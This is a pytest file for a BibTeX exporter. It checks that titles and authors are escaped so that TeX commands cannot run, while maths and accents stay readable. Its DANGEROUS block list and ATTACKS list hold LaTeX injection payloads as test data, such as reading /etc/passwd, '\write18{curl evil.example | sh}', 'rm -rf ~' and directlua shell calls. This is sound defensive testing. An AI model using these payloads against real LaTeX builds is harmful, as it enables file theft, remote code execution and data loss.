"""BibTeX exports go through somebody's LaTeX: TeX commands from titles and authors are neutralised
(``\\input{/etc/passwd}`` and ``\\write18`` are shown, never run), while maths and accents stay
readable, and the export still reads back through a real BibTeX parser field for field."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from paperwire.exports.bibtex import MATH_COMMANDS, TEXT_COMMANDS, bibtex, bibtex_fields, latex
from tests.exports.bib import listed, parse_bibtex

# What TeX reads as a control sequence: a backslash and a run of letters (``@`` too where a file
# says \makeatletter), or a backslash and any one character.
_CONTROL = re.compile(r"\\([A-Za-z@]+|.)", re.DOTALL)
# Primitives and macros that read or write files, run the shell, define or redefine commands,
# change category codes or build control sequence names: none may survive, as text or in maths.
DANGEROUS = {
    "input", "include", "InputIfFileExists", "openin", "openout", "read", "write", "write18",
    "immediate", "special", "def", "edef", "gdef", "xdef", "let", "csname", "endcsname",
    "catcode", "expandafter", "string", "scantokens", "newcommand", "renewcommand",
    "usepackage", "makeatletter", "@@input", "directlua", "ShellEscape", "pdfshellescape",
    "everyjob", "jobname", "endinput", "lowercase", "uppercase", "detokenize",
}  # fmt: skip
ATTACKS = [
    r"\input{/etc/passwd}",
    r"\include{/etc/passwd}",
    r"\immediate\write18{curl evil.example | sh}",
    r"\write18{rm -rf ~}",
    r"$\input{/etc/passwd}$",
    r"$x^2 \immediate\write18{id}$",
    "^^5cinput{/etc/passwd}",
    "$^^5cinput{/etc/passwd}$",
    "^^^^005cinput",
    r"\csname input\endcsname{/etc/passwd}",
    r"\expandafter\input\string\foo",
    r"\def\x{\input}\x{/etc/passwd}",
    r"{\catcode`\^^M=13}",
    r"\makeatletter\@@input /etc/passwd",
    r"\\input{/etc/passwd}",
    r"\\\input{/etc/passwd}",
    r"\directlua{os.execute('id')}",
    r"\$ \input{x} \$",
    r"$ \$ \input{x} $",
    "\\",
    "title\\",
]


def _control_sequences(text: str) -> list[str]:
    return [found.group(1) for found in _CONTROL.finditer(text)]


def _assert_inert(output: str) -> None:
    names = _control_sequences(output)
    assert not DANGEROUS & set(names), output
    assert set(names) <= TEXT_COMMANDS | MATH_COMMANDS | {"textbackslash", "backslash"}, output
    assert "^^" not in output, output


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_dangerous_control_sequence_survives(attack: str) -> None:
    item = listed(title=f"A study {attack} of X", authors=[f"Ann {attack} Lee", attack])
    text = bibtex([item])
    _assert_inert(text)
    [entry] = parse_bibtex(text)
    assert entry["title"] == "{" + latex(f"A study {attack} of X") + "}"
    assert entry["author"] == dict(bibtex_fields(item))["author"]


def test_the_commands_are_shown_not_run() -> None:
    assert latex(r"\input{/etc/passwd}") == r"\textbackslash{}input{/etc/passwd}"
    assert latex(r"$\input{x}$") == r"$\backslash{}input{x}$"
    assert latex("^^5cinput") == r"\^{}\^{}5cinput"


@pytest.mark.parametrize(
    "title",
    [
        r"$\mathcal{O}(n \log n)$ sorting on $\mathbb{R}^d$",
        r"$\alpha$-stable laws and $x^2 + y_i^{(t)}$",
        r"$\varepsilon$-greedy: $\sqrt{T}$ regret, $\frac{1}{2} \le \beta$",
        r"Schr\"odinger bridges for {\'e}coles and Erd\H{o}s",
        r"\emph{Deep} nets, \textbf{bold} claims, G\"{o}del and \ss",
    ],
)
def test_maths_and_accents_stay_as_written(title: str) -> None:
    assert latex(title) == title
    [entry] = parse_bibtex(bibtex([listed(title=title)]))
    assert entry["title"] == "{" + title + "}"


def test_specials_are_escaped_once() -> None:
    assert latex("R&D: 50% of #1 in a_b, $5") == r"R\&D: 50\% of \#1 in a\_b, \$5"
    assert latex(r"R\&D at 50\%") == r"R\&D at 50\%"
    assert latex("$a & b % c # d$") == r"$a \& b \% c \# d$"


PIECES = st.sampled_from([*"\\{}$^_&%#@ aeinptuwx18", "input", "write18", "^^5c", "\\\\"])
TEXT = st.lists(PIECES, max_size=25).map("".join)


@settings(max_examples=150, deadline=None, derandomize=True, database=None)
@given(TEXT, TEXT)
def test_any_text_is_inert_and_reads_back(title: str, author: str) -> None:
    item = listed(title=title, authors=[author])
    text = bibtex([item])
    _assert_inert(text)
    [entry] = parse_bibtex(text)
    assert {k: v for k, v in entry.items() if k not in ("ENTRYTYPE", "ID")} == {
        name.lower(): value for name, value in bibtex_fields(item)
    }
